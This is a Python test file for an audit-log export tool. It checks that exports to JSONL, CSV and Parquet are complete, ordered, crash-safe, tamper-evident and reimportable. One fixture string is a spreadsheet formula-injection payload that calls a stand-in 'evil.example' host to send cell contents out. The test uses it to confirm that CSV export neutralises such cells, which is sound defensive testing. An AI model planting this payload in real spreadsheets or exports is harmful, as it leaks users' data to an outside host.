"""What a query finds leaves as a file: whole, in order, as of one position, and comes back the same."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import signal
import subprocess
import sys
from collections.abc import Sequence
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
import pyarrow.parquet as pq
import pytest
from legacy_scene import read_everything

from afterwrite.cli import export as export_command
from afterwrite.errors import AfterwriteError, Refused, UsageError
from afterwrite.failpoints import VARIABLE
from afterwrite.postgres import connect
from afterwrite.record import Activity, Batch, Kind, Lsn, Operation, Outcome
from afterwrite.search.query import parse
from afterwrite.store.reader import StoredActivity, read_position, verify_feed
from afterwrite.store.schema import install_store
from afterwrite.store.writer import open_sink
from afterwrite.transfer import export as exporting
from afterwrite.transfer.export import Exported, Format, export, export_file
from afterwrite.transfer.jsonl import load_jsonl
from afterwrite.transfer.legacy import Policy

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
_EVIL = '=HYPERLINK("http://evil.example?"&A1)'


def activities(count: int, *, first: int = 0) -> list[Activity]:
    made = [
        Activity(
            id=f"01900000-0000-7000-8000-{number:012x}",
            occurred_at=NOW - timedelta(minutes=number, microseconds=number % 7),
            source="app",
            kind=Kind.EVENT,
            category="financial" if number % 2 else "data",
            action="token.grant",
            outcome=Outcome.FAILURE if number % 5 == 0 else Outcome.SUCCESS,
            actor_id=str(number % 3),
            summary=[_EVIL, "-1", "+1", "@x", 'a,b "c"\r\nd', "＝1", "plain", None][number % 8],
            user_agent="\tx" if number % 2 else None,
            ip="10.0.0.1",
            duration_ms=-1.5,
            metadata=msgspec.Raw(b'{"a":\n [1.50, null]}') if number % 3 == 0 else None,
        )
        for number in range(first, first + count)
    ]
    change = Activity(
        id="01900000-0000-8000-8000-0000000fffff",
        occurred_at=NOW,
        source="main",
        kind=Kind.CHANGE,
        category="data",
        action="users.update",
        entity_type="users",
        entity_id="1",
        relation="public.users",
        operation=Operation.UPDATE,
        changed=("a", "b, c"),
        before=msgspec.Raw(b'{"a": 1, "b, c": null}'),
        after=msgspec.Raw(b'{"a": 2, "b, c": "\xe6\xbc\xa2\xe2\x80\xa8"}'),
        xid=7,
        commit_lsn=Lsn(0x1_0000_00FF),
        ordinal=3,
    )
    return [*made, change] if not first else made


async def store(dsn: str, made: Sequence[Activity]) -> None:
    async with open_sink(dsn) as sink:
        await sink.write(Batch(source="app", activities=list(made), transactions=0))


async def run_export(dsn: str, line: str, form: Format, *, raw_cells: bool = False) -> tuple[bytes, Exported]:
    parts: list[bytes] = []

    async def write(data: bytes) -> None:
        parts.append(data)

    async with connect(dsn, guarded=True) as db:
        exported = await export(db, parse(line), form, write, raw_cells=raw_cells)
    return b"".join(parts), exported


def test_lines_are_ordered_complete_and_told_of(installed_dsn: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "_PAGE_ROWS", 10)

    async def main() -> None:
        await store(installed_dsn, activities(57))
        data, exported = await run_export(installed_dsn, "category:financial", Format.JSONL)
        told = [json.loads(line) for line in data.splitlines()]
        wanted = sorted((a for a in activities(57) if a.category == "financial"), key=lambda a: (a.occurred_at, a.id))
        assert [each["id"] for each in told] == [each.id for each in wanted]
        assert (exported.rows, exported.bytes, exported.as_of) == (len(wanted), len(data), 1)
        assert exported.sha256 == hashlib.sha256(data).hexdigest()
        assert (exported.first_at, exported.last_at) == (wanted[0].occurred_at, wanted[-1].occurred_at)
        assert exported.query == str(parse("category:financial"))
        assert set(told[0]) == set(StoredActivity.__struct_fields__)

    asyncio.run(main())


def test_what_comes_meanwhile_is_left_out(installed_dsn: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "_PAGE_ROWS", 5)

    async def main() -> None:
        await store(installed_dsn, activities(20))
        seen: list[bytes] = []

        async def write(data: bytes) -> None:
            if not seen:
                await store(installed_dsn, activities(20, first=100))
                await store(
                    installed_dsn,
                    [msgspec.structs.replace(activities(1)[0], id="01900000-0000-7000-8000-ffffffffffff")],
                )
            seen.append(data)

        async with connect(installed_dsn, guarded=True) as db:
            exported = await export(db, parse(""), Format.JSONL, write)
            assert (exported.rows, exported.as_of, await read_position(db)) == (21, 1, 3)

    asyncio.run(main())


def test_a_spreadsheet_computes_nothing_of_it_and_a_program_reads_all_of_it(installed_dsn: str) -> None:
    async def main() -> None:
        await store(installed_dsn, activities(40))
        safe, _ = await run_export(installed_dsn, "", Format.CSV)
        raw, _ = await run_export(installed_dsn, "", Format.CSV, raw_cells=True)
        lines, _ = await run_export(installed_dsn, "", Format.JSONL)
        told = [json.loads(line) for line in lines.splitlines()]
        assert safe.count(b"\r\n") >= 42
        shown = list(csv.DictReader(io.StringIO(safe.decode(), newline="")))
        exact = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
        assert [row["id"] for row in shown] == [row["id"] for row in told]
        texts = [cell for row in shown for name, cell in row.items() if name != "duration_ms"]
        assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
        assert "'" + _EVIL in texts
        for row, is_ in zip(exact, told, strict=True):
            assert row["summary"] == (is_["summary"] or "")
            assert (row["metadata"] and json.loads(row["metadata"])) == (is_["metadata"] or "")
            assert (row["changed"] and json.loads(row["changed"])) == (is_["changed"] or "")

    asyncio.run(main())


def test_parquet_has_types(installed_dsn: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "_PARQUET_ROWS", 16)
    monkeypatch.setattr(exporting, "_PAGE_ROWS", 7)

    async def main() -> None:
        await store(installed_dsn, activities(40))
        data, exported = await run_export(installed_dsn, "", Format.PARQUET)
        lines, _ = await run_export(installed_dsn, "", Format.JSONL)
        told = [json.loads(line) for line in lines.splitlines()]
        table = pq.read_table(io.BytesIO(data))
        assert str(table.schema.field("occurred_at").type) == "timestamp[us, tz=UTC]"
        assert str(table.schema.field("changed").type).startswith("list<")
        assert str(table.schema.field("xid").type) == "int64"
        assert pq.ParquetFile(io.BytesIO(data)).num_row_groups > 1
        rows = table.to_pylist()
        assert len(rows) == exported.rows == len(told)
        for row, is_ in zip(rows, told, strict=True):
            assert row["occurred_at"] == datetime.fromisoformat(is_["occurred_at"])
            for name in (
                "id",
                "kind",
                "summary",
                "duration_ms",
                "changed",
                "xid",
                "commit_lsn",
                "ordinal",
                "outcome",
                "ip",
            ):
                assert row[name] == is_[name], name
            assert (row["after"] and json.loads(row["after"])) == is_["after"]

    asyncio.run(main())


def test_without_pyarrow_the_remedy_is_told(installed_dsn: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(UsageError) as error:
        asyncio.run(run_export(installed_dsn, "", Format.PARQUET))
    assert error.value.remedy == "pip install 'afterwrite[parquet]'"


def test_an_export_comes_back_the_same_once(installed_dsn: str, dsn: str, tmp_path: Path) -> None:
    file = tmp_path / "all.jsonl"

    async def main() -> None:
        deep = msgspec.Raw(b'{"a":' * 3_000 + b"1" + b"}" * 3_000)
        *most, last = activities(60)
        await store(installed_dsn, [*most, msgspec.structs.replace(last, after=deep)])
        async with connect(installed_dsn, guarded=True) as db:
            await export_file(db, parse(""), Format.JSONL, file)
            before = await read_everything(db)
        async with connect(dsn) as plain:
            await install_store(plain)
        async with connect(dsn, guarded=True) as db, open_sink(dsn) as sink:
            loaded = await load_jsonl(db, sink, file, policy=Policy())
            assert (loaded.rows, loaded.stored, loaded.already) == (61, 61, 0)
            again = await load_jsonl(db, sink, file, policy=Policy())
            assert (again.rows, again.stored, again.already) == (61, 0, 61)
            # A line's end between the tokens of a JSON value is a blank now.
            assert await read_everything(db) == [_on_one_line(each) for each in before]
            assert (await verify_feed(db)).first_break is None
            file.write_bytes(file.read_bytes().replace(b"token.grant", b"token.taken", 1))
            with pytest.raises(Refused, match="is not the file that all"):
                await load_jsonl(db, sink, file, policy=Policy())

    asyncio.run(main())


def test_what_is_no_file_is_left_where_it_is(installed_dsn: str, tmp_path: Path) -> None:
    pipe, link, file = tmp_path / "pipe", tmp_path / "link", tmp_path / "file"
    os.mkfifo(pipe)
    file.write_text("before")
    link.symlink_to(file)

    async def main() -> None:
        async with connect(installed_dsn, guarded=True) as db:
            for each in (pipe, tmp_path):
                with pytest.raises(UsageError, match="is no file"):
                    await export_file(db, parse(""), Format.JSONL, each)
            await export_file(db, parse(""), Format.JSONL, link)

    asyncio.run(main())
    assert pipe.is_fifo()
    assert link.is_symlink()
    assert file.read_text() == ""


def test_where_stdout_leads_to_may_be_full(monkeypatch: pytest.MonkeyPatch) -> None:
    full = Path("/dev/full").open("w")  # noqa: SIM115 - what it holds cannot be flushed by closing it, either
    monkeypatch.setattr(sys, "stdout", full)
    with pytest.raises(AfterwriteError, match="stdout cannot be written: No space left"):
        asyncio.run(export_command._to_stdout(b"a line\n"))
    with suppress(OSError):
        full.close()


def _on_one_line(activity: StoredActivity) -> StoredActivity:
    metadata = activity.metadata and activity.metadata.replace("\n", " ")
    return msgspec.structs.replace(activity, metadata=metadata)


_EXPORT = """
import asyncio, sys
from pathlib import Path
from afterwrite.postgres import connect
from afterwrite.search.query import parse
from afterwrite.transfer.export import Format, export_file
async def main():
    async with connect(sys.argv[1], guarded=True) as db:
        await export_file(db, parse(""), Format.JSONL, Path(sys.argv[2]))
asyncio.run(main())
"""


@pytest.mark.parametrize(
    ("point", "whole"), [("export.before_page", False), ("export.before_rename", False), ("export.after_rename", True)]
)
def test_killed_anywhere_a_file_is_whole_or_not_there(
    installed_dsn: str, tmp_path: Path, point: str, whole: bool
) -> None:
    asyncio.run(store(installed_dsn, activities(30)))
    file = tmp_path / "out.jsonl"
    words = [sys.executable, "-c", _EXPORT, installed_dsn, str(file)]
    died = subprocess.run(words, env={**os.environ, VARIABLE: f"{point}=kill"}, capture_output=True, check=False)
    assert died.returncode == -signal.SIGKILL, died.stderr.decode()
    assert file.exists() is whole

    async def again() -> None:
        async with connect(installed_dsn, guarded=True) as db:
            await export_file(db, parse(""), Format.JSONL, file)

    asyncio.run(again())
    manifest = json.loads((tmp_path / "out.jsonl.manifest.json").read_text())
    assert manifest["rows"] == len(file.read_bytes().splitlines()) == 31
    assert manifest["sha256"] == hashlib.sha256(file.read_bytes()).hexdigest()
    assert sorted(each.name for each in tmp_path.iterdir()) == ["out.jsonl", "out.jsonl.manifest.json"]


def test_lines_that_are_killed_half_way_are_stored_once(installed_dsn: str, dsn: str, tmp_path: Path) -> None:
    file = tmp_path / "all.jsonl"
    load = """
import asyncio, sys
from pathlib import Path
from afterwrite.postgres import connect
from afterwrite.store.writer import open_sink
from afterwrite.transfer import jsonl
from afterwrite.transfer.legacy import Policy
jsonl._CHUNK_ROWS = 10
async def main():
    async with connect(sys.argv[1], guarded=True) as db, open_sink(sys.argv[1]) as sink:
        await jsonl.load_jsonl(db, sink, Path(sys.argv[2]), policy=Policy())
asyncio.run(main())
"""

    async def prepare() -> None:
        await store(installed_dsn, activities(40))
        async with connect(installed_dsn, guarded=True) as db:
            await export_file(db, parse(""), Format.JSONL, file, manifest=False)
        async with connect(dsn) as db:
            await install_store(db)

    async def count() -> int:
        async with connect(dsn) as db:
            return int(await db.value(b"select count(*) from afterwrite.activity"))

    asyncio.run(prepare())
    words = [sys.executable, "-c", load, dsn, str(file)]
    for point in ("import.before_lines", "import.after_lines"):
        died = subprocess.run(words, env={**os.environ, VARIABLE: f"{point}=kill@2"}, capture_output=True, check=False)
        assert died.returncode == -signal.SIGKILL, died.stderr.decode()
        assert 0 < asyncio.run(count()) < 41

    async def again() -> None:
        async with connect(dsn, guarded=True) as db, open_sink(dsn) as sink:
            assert (await load_jsonl(db, sink, file, policy=Policy())).rows == 41

    asyncio.run(again())
    assert asyncio.run(count()) == 41
